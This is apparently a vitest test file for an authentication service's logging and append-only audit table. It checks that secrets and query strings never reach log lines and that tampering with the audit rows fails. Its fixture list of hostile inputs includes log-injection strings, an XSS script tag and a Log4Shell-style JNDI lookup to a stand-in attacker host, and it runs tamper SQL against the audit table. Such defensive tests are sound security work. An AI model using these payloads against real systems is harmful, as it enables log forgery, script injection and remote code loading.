/** What is written about what happens: lines for the log, rows for the auditor (5-security 4.27, 271). */
import { runDurableObjectAlarm } from 'cloudflare:test'
import { env } from 'cloudflare:workers'
import { afterEach, beforeEach, describe, expect, onTestFinished, test, vi } from 'vitest'
import { sha256, toBase64url } from '../../src/bytes.ts'
import { OPERATOR_TOKEN } from './bindings.ts'
import { redeem, registerClient, Tab, userinfo } from './relying-party.ts'
import {
  type Answer,
  type Bar,
  connect,
  enrolled,
  eventually,
  freshAddress,
  initiate,
  initiateFromPage,
  loginAudit,
  loginObject,
  openBar,
  operator,
  Person,
  post,
  revocationList,
  scriptPush,
  send,
} from './world.ts'

type Line = Record<string, unknown>

let bar: Bar
let written: string[]

beforeEach(async () => {
  written = []
  for (const name of ['log', 'info', 'warn', 'error', 'debug'] as const) {
    const spy = vi.spyOn(console, name).mockImplementation((...parts) => {
      written.push(parts.map(String).join(' '))
    })
    onTestFinished(() => spy.mockRestore())
  }
  bar = await openBar()
})
afterEach(() => {
  vi.useRealTimers()
})

/** The lines so far; each must be one JSON object on one line. */
function lines(event?: string): Line[] {
  const parsed = written.map((line) => {
    expect(line).not.toMatch(/\p{Cc}/u)
    return JSON.parse(line) as Line
  })
  return event === undefined ? parsed : parsed.filter((line) => line.event === event)
}

/** What was refused by the OpenID Connect door since the last look, with the request id of each answer. */
function refusals(): Line[] {
  const found = lines('refused')
  written = []
  return found
}

test('330 logs: each refusal of the OpenID Connect door is one line with its reason, request id and nothing of the request', async () => {
  const client = await registerClient({ offline_access: true }, {}, 'a-client')
  const person = await enrolled({ push: false })
  const request = { client_id: client.clientId }
  const { parameters } = await new Tab().login(person, request)
  const tab = new Tab()
  const refused = async (answer: Promise<Answer>, line: Line) => {
    written = []
    const requestId = (await answer).headers.get('X-Request-Id')
    expect(refusals()).toEqual([{ at: expect.any(String), event: 'refused', requestId, ...line }])
  }
  const service = 'a-client'
  await refused(tab.authorize({ client_id: 'nobody' }), {
    ...{ where: 'authorize', reason: 'error-client' },
  })
  await refused(tab.authorize({ ...request, code_challenge: undefined }), {
    ...{ where: 'authorize', reason: 'invalid_request code_challenge', service },
  })
  await refused(tab.authorize({ ...request, id_token_hint: 'a.b.c' }), {
    ...{ where: 'authorize', reason: 'invalid_request id_token_hint', service },
  })
  const wrong = { Authorization: `Basic ${btoa('a-client:wrong')}` }
  await refused(redeem(client, parameters.code, {}, wrong), {
    ...{ where: 'token', reason: 'invalid_client wrong_secret' },
  })
  await refused(redeem(client, parameters.code, { code_verifier: 'x'.repeat(43) }), {
    ...{ where: 'token', reason: 'invalid_grant code_verifier', service },
  })
  await refused(redeem(client, 'nonsense'), {
    ...{ where: 'token', reason: 'invalid_grant code unknown', service },
  })
  await refused(userinfo('nonsense'), {
    ...{ where: 'userinfo', reason: 'invalid_token unknown or ended' },
  })
  await refused(tab.send('GET', '/oidc/end-session?id_token_hint=a.b.c'), {
    ...{ where: 'logout', reason: 'id_token_hint' },
  })
})

/** The audit rows of `event`, without those of the world's own beginning. */
async function rows(event: string): Promise<{ at: number; once: string | null; detail: Line }[]> {
  const { results } = await env.DB.prepare('SELECT * FROM audit WHERE event = ? ORDER BY id')
    .bind(event)
    .all<{ at: number; once: string | null; detail: string }>()
  return results.map(({ at, once, detail }) => ({ at, once, detail: JSON.parse(detail) }))
}

async function audited(sessionId: string): Promise<Line> {
  await eventually(async () => (await loginAudit(sessionId)).length > 0)
  const [row, ...more] = await loginAudit(sessionId)
  expect(more).toEqual([])
  return row ?? {}
}

async function opened(person: Person) {
  const { body } = await initiate(bar, person.tokenId)
  await eventually(async () => (await person.pushes()).length > 0)
  const claimed = await person.claim(body.sessionId)
  return { sessionId: String(body.sessionId), claimed: claimed.body }
}

describe('329 lines', () => {
  const HOSTILE = [
    '"}\\n{"event":"login","outcome":"approved"}',
    '\\u000a\\"},',
    '%0a%0d\\r\\n',
    '</script><script>alert(1)</script>',
    '$' + '{jndi:ldap://evil.example/x}',
    '\u2028\u2029\u202e',
  ]

  test.each(HOSTILE)(
    '329 a name, a reason and a User-Agent of %j stay inside one line of JSON',
    async (text) => {
      await openBar({ name: text.slice(0, 80) })
      const person = await enrolled()
      const agent = { 'User-Agent': encodeURI(text), 'CF-Connecting-IP': freshAddress() }
      await initiateFromPage(person.tokenId, {}, agent)
      await initiateFromPage(text, {}, agent)
      const revoked = await operator('POST', '/revoke', { tokenId: person.tokenId, reason: text })
      expect(revoked.status).toBe(200)
      await scheduler.wait(50)
      const said = lines()
      expect(said.map((line) => line.event)).not.toContain(undefined)
      expect(lines('revoked')).toEqual([expect.objectContaining({ reason: text })])
      expect(lines('login').every((line) => line.outcome !== 'approved')).toBe(true)
    },
  )

  test('329 control characters reach no line: they are refused before anything is said', async () => {
    const person = await enrolled()
    written = []
    for (const reason of ['a\nb', '\u001b[31m', 'a\u0000', '\u0085', '\ud800']) {
      const answer = await operator('POST', '/revoke', { tokenId: person.tokenId, reason })
      expect(answer.status).toBe(400)
    }
    expect(written).toEqual([])
  })

  test('329 every line says when, in UTC, and what', async () => {
    const person = await enrolled()
    const { sessionId, claimed } = await opened(person)
    await person.approve(sessionId, claimed)
    await audited(sessionId)
    for (const line of lines()) {
      expect(line.at).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/)
      expect(line.event).toMatch(/^[a-z_]+$/)
    }
    expect(lines('enrolled')).toHaveLength(1)
    expect(lines('login')).toHaveLength(1)
  })

  test('330 no query string is written, whatever route it came to and however it ends', async () => {
    const query = '?code=needle-7f3a&state=needle-7f3a'
    const socket = { Upgrade: 'websocket', 'CF-Connecting-IP': freshAddress() }
    for (const path of [
      '/auth/initiate',
      '/auth/result',
      '/revoke',
      '/jwks',
      '/nowhere',
      '/health',
    ]) {
      await send('GET', `${path}${query}`)
      await send('POST', `${path}${query}`, '{}', { 'Content-Type': 'application/json' })
    }
    await send('GET', `/ws/session/needle-7f3a${query}`, undefined, socket)
    const spoilt = vi.spyOn(crypto, 'getRandomValues').mockImplementation(() => {
      throw new Error('needle-7f3a')
    })
    await send('POST', `/enroll/challenge${query}`, '{}', { 'Content-Type': 'application/json' })
    spoilt.mockRestore()
    expect(lines('failed')).toHaveLength(1)
    expect(written.join('\n')).not.toContain('needle')
  })

  test('a secret that a caller sends is in no line: operator token, client secret, statement', async () => {
    const person = await enrolled()
    const { sessionId, claimed } = await opened(person)
    const approval = await person.approval(sessionId, claimed, { payload: { origin: 'x' } })
    await post('/auth/verify', approval)
    await post('/auth/verify', { ...approval, statement: `${approval.statement}x` })
    const headers = { Authorization: `Bearer ${OPERATOR_TOKEN}x` }
    await send('POST', '/revoke', '{}', headers)
    await send('POST', '/auth/initiate', '{}', { Authorization: `Basic ${btoa('bar:needle')}` })
    const everything = written.join('\n')
    for (const secret of [OPERATOR_TOKEN, bar.secret, approval.statement ?? '', 'needle', 'eyJ']) {
      expect(everything).not.toContain(secret)
    }
  })
})

describe('331 people', () => {
  test('331 a tokenId is written as a keyed hash, the same in lines and rows, and no plain digest of it', async () => {
    const person = await enrolled()
    const { sessionId, claimed } = await opened(person)
    await person.deny(sessionId, claimed.nonce)
    const row = await audited(sessionId)
    await operator('POST', '/revoke', { tokenId: person.tokenId, reason: 'lost' })
    const [enrollment] = lines('enrolled')
    const [login] = lines('login')
    const [revoked] = lines('revoked')
    expect(login?.subject).toMatch(/^[\w-]{22}$/)
    expect([enrollment?.subject, revoked?.subject, row.subject]).toEqual(
      Array(3).fill(login?.subject),
    )
    const digest = toBase64url(await sha256(person.tokenId))
    const { results } = await env.DB.prepare('SELECT * FROM audit').all()
    for (const text of [...written, JSON.stringify(results)]) {
      expect(text).not.toContain(person.tokenId)
      expect(text).not.toContain(digest.slice(0, 22))
    }
  })

  test('331 a login is named by a hash: who reads the log holds no handle to it', async () => {
    const person = await enrolled()
    const { sessionId, claimed } = await opened(person)
    await person.approve(sessionId, claimed)
    await audited(sessionId)
    expect(lines('login')[0]?.login).toBe(toBase64url(await sha256(sessionId)))
    expect(written.join('\n')).not.toContain(sessionId.slice(5))
  })
})

describe('332 one row per login, at its end', () => {
  const TIMES = { startedAt: expect.any(Number), endedAt: expect.any(Number) }

  test('332 no row before the end; approved: all step times in order, service, door, scopes, device', async () => {
    const person = await enrolled()
    const before = Date.now()
    const { sessionId, claimed } = await opened(person)
    await connect({ sessionId, wsToken: 'x' })
    expect([await rows('login'), lines('login')]).toEqual([[], []])
    await person.approve(sessionId, claimed)
    const row = await audited(sessionId)
    expect(row).toEqual({
      ...TIMES,
      login: toBase64url(await sha256(sessionId)),
      outcome: 'approved',
      reason: null,
      door: 'direct',
      purpose: 'login',
      service: 'bar-le-central',
      subject: expect.any(String),
      device: person.thumbprint,
      scopes: claimed.scopes,
      claimedAt: expect.any(Number),
      pushFailed: false,
    })
    const times = [before, row.startedAt, row.claimedAt, row.endedAt, Date.now()].map(Number)
    expect(times).toEqual([...times].sort((a, b) => a - b))
    const [stored] = await rows('login')
    expect(Math.abs((stored?.at ?? 0) - Date.now() / 1000)).toBeLessThan(5)
    expect(stored?.once).toBe(row.login)
    // Its line and its row say the same.
    const [{ at: _at, event: _event, ...line } = {}] = lines('login')
    expect(line).toEqual(row)
  })

  test('332 declined, "not me" and three wrong codes are rejections with their reason', async () => {
    const person = await enrolled()
    const outcomes: unknown[] = []
    for (const reason of ['declined', 'not_me']) {
      const { sessionId, claimed } = await opened(person)
      await person.deny(sessionId, claimed.nonce, reason)
      outcomes.push(await audited(sessionId))
    }
    const { sessionId, claimed } = await opened(person)
    const otp = claimed.otp === '000000' ? '000001' : '000000'
    for (let i = 0; i < 3; i++) {
      expect(await loginAudit(sessionId)).toEqual([])
      await person.approve(sessionId, claimed, { payload: { otp } })
    }
    outcomes.push(await audited(sessionId))
    expect(outcomes).toMatchObject([
      { ...TIMES, outcome: 'rejected', reason: 'declined' },
      { ...TIMES, outcome: 'rejected', reason: 'not_me' },
      { ...TIMES, outcome: 'rejected', reason: 'wrong_code' },
    ])
    expect(await rows('login')).toHaveLength(3)
  })

  test('332 expired, never claimed, with a push that failed', async () => {
    const person = await enrolled()
    await scriptPush(person.fcmToken ?? '', 'unregistered')
    const { body } = await initiate(bar, person.tokenId)
    const browser = await connect(body)
    await browser.event('push_failed')
    vi.setSystemTime(Date.now() + 60_001)
    expect(await loginAudit(body.sessionId)).toEqual([])
    await runDurableObjectAlarm(loginObject(body.sessionId))
    expect(await audited(body.sessionId)).toMatchObject({
      ...TIMES,
      outcome: 'expired',
      reason: null,
      claimedAt: null,
      device: null,
      scopes: [],
      pushFailed: true,
    })
    vi.setSystemTime(Date.now() + 60_001)
    await runDurableObjectAlarm(loginObject(body.sessionId))
    expect(await rows('login')).toHaveLength(1)
    expect(lines('login')).toHaveLength(1)
  })

  test('332 an alarm that rings long after: one row and one line all the same', async () => {
    const person = await enrolled()
    const { sessionId } = await opened(person)
    vi.setSystemTime(Date.now() + 600_000)
    await runDurableObjectAlarm(loginObject(sessionId))
    expect(await audited(sessionId)).toMatchObject({ outcome: 'expired' })
    expect([(await rows('login')).length, lines('login').length]).toEqual([1, 1])
  })

  test('332 a login that a revocation ends', async () => {
    const person = await enrolled()
    const { sessionId } = await opened(person)
    await operator('POST', '/revoke', { tokenId: person.tokenId, reason: 'lost' })
    expect(await audited(sessionId)).toMatchObject({ outcome: 'rejected', reason: 'revoked' })
  })

  test('332 a decoy leaves the row of an expired login', async () => {
    const { body } = await initiateFromPage(
      crypto.randomUUID(),
      {},
      {
        'CF-Connecting-IP': freshAddress(),
      },
    )
    vi.setSystemTime(Date.now() + 60_001)
    await runDurableObjectAlarm(loginObject(body.sessionId))
    expect(await audited(body.sessionId)).toMatchObject({ outcome: 'expired', device: null })
  })
})

describe('332 one entry for each other act', () => {
  /** Whoever reads a row can find the request, and the other way round. */
  const requestId = expect.stringMatching(/^[0-9a-f-]{36}$/)

  test('332 enrollment, its repetition, and its refusal', async () => {
    const person = await Person.make()
    const body = await person.enrollBody()
    const headers = { 'CF-Connecting-IP': freshAddress() }
    await post('/enroll', body, headers)
    await post('/enroll', body, headers)
    expect((await rows('enrolled')).map(({ detail }) => detail)).toEqual([
      {
        device: person.thumbprint,
        granted: true,
        replaced: false,
        subject: expect.any(String),
        requestId,
      },
    ])
    const thief = await Person.make({ tokenId: person.tokenId })
    thief.seal = person.seal
    expect((await thief.enroll(headers)).status).toBe(409)
    expect((await rows('enrollment_refused')).map(({ detail }) => detail)).toEqual([
      { reason: 'already_enrolled', subject: lines('enrolled')[0]?.subject, requestId },
    ])
  })

  test('332 refused enrollments: one row a person, reason and day, however often they come', async () => {
    const person = await Person.make()
    await person.enroll({ 'CF-Connecting-IP': freshAddress() })
    const thief = await Person.make({ tokenId: person.tokenId })
    thief.seal = person.seal
    for (let i = 0; i < 5; i++) expect((await thief.enroll()).status).toBe(409)
    expect(await rows('enrollment_refused')).toHaveLength(1)
  })

  test('332 what an operator does is on record with the actor, and so is doing it twice', async () => {
    const actor = 'bootstrap'
    const person = await enrolled()
    await openBar({ name: 'Bar le Central II' })
    await operator('POST', '/operator/services/bar-le-central/secret', {})
    await operator('POST', '/operator/services/bar-le-central/vds', {})
    await operator('POST', '/operator/services/bar-le-central/vds/withdraw', {})
    await operator('PUT', '/operator/revocation-list', {
      revocationList: await revocationList(1, []),
    })
    const service = 'bar-le-central'
    expect((await rows('service_changed')).map(({ detail }) => detail)).toEqual([
      { service, change: 'created', actor, requestId },
      { service, change: 'updated', actor, requestId },
      { service, change: 'secret_rotated', actor, requestId },
      { service, change: 'vds_issued', actor, requestId },
      { service, change: 'vds_withdrawn', actor, requestId },
    ])
    expect((await rows('trust_list_accepted'))[0]?.detail).toEqual({
      sequence: 1,
      actor,
      requestId,
    })
    expect((await rows('revocation_list_accepted')).map(({ detail }) => detail)).toEqual([
      { sequence: 1, seals: 0, actor, requestId },
    ])
    for (const reason of ['lost', 'again']) {
      await operator('POST', '/revoke', { tokenId: person.tokenId, reason })
    }
    expect((await rows('revoked')).map(({ detail }) => detail)).toEqual([
      { reason: 'lost', changed: true, actor, subject: expect.any(String), requestId },
      { reason: 'again', changed: false, actor, subject: expect.any(String), requestId },
    ])
    for (const { at } of await rows('revoked')) {
      expect(Math.abs(at - Date.now() / 1000)).toBeLessThan(5)
    }
    // Each row has its line.
    const kept = ['service_changed', 'trust_list_accepted', 'revocation_list_accepted', 'revoked']
    for (const event of kept) expect(lines(event)).toHaveLength((await rows(event)).length)
  })

  test('332 a refused act of an operator changes no record', async () => {
    const { results: before } = await env.DB.prepare('SELECT * FROM audit').all()
    await send('POST', '/revoke', '{}', { 'Content-Type': 'application/json' })
    await operator('POST', '/revoke', { tokenId: crypto.randomUUID(), reason: 'lost' })
    await operator('PUT', '/operator/trust-list', { trustList: 'x.y.z' })
    const { results: after } = await env.DB.prepare('SELECT * FROM audit').all()
    expect(after).toEqual(before)
  })
})

describe('271 the audit is append-only', () => {
  test.each([
    "UPDATE audit SET detail = '{}'",
    'UPDATE audit SET at = at + 1 WHERE id = 1',
    "UPDATE OR IGNORE audit SET event = 'x'",
    'DELETE FROM audit',
    'DELETE FROM audit WHERE id = 1',
    "REPLACE INTO audit (id, at, event, detail) VALUES (1, 0, 'x', '{}')",
    "INSERT INTO audit (id, at, event, detail) VALUES (1, 0, 'x', '{}') ON CONFLICT (id) DO UPDATE SET detail = '{}'",
  ])('271 %s changes nothing', async (sql) => {
    const { results: before } = await env.DB.prepare('SELECT * FROM audit').all()
    expect(before.length).toBeGreaterThan(0)
    await env.DB.prepare(sql)
      .run()
      .catch(() => undefined)
    const { results: after } = await env.DB.prepare('SELECT * FROM audit').all()
    expect(after).toEqual(before)
  })

  test('271 an update or delete is refused aloud', async () => {
    for (const sql of ["UPDATE audit SET detail = '{}'", 'DELETE FROM audit']) {
      await expect(env.DB.prepare(sql).run()).rejects.toThrow('append-only')
    }
  })

  test('271 no route changes the audit', async () => {
    for (const path of ['/operator/audit', '/operator/audit/1', '/audit', '/audit/1']) {
      for (const method of ['DELETE', 'PATCH', 'PUT', 'POST']) {
        const answer = await send(method, path, '{}', {
          'Content-Type': 'application/json',
          Authorization: `Bearer ${OPERATOR_TOKEN}`,
        })
        expect([404, 405]).toContain(answer.status)
      }
    }
  })
})
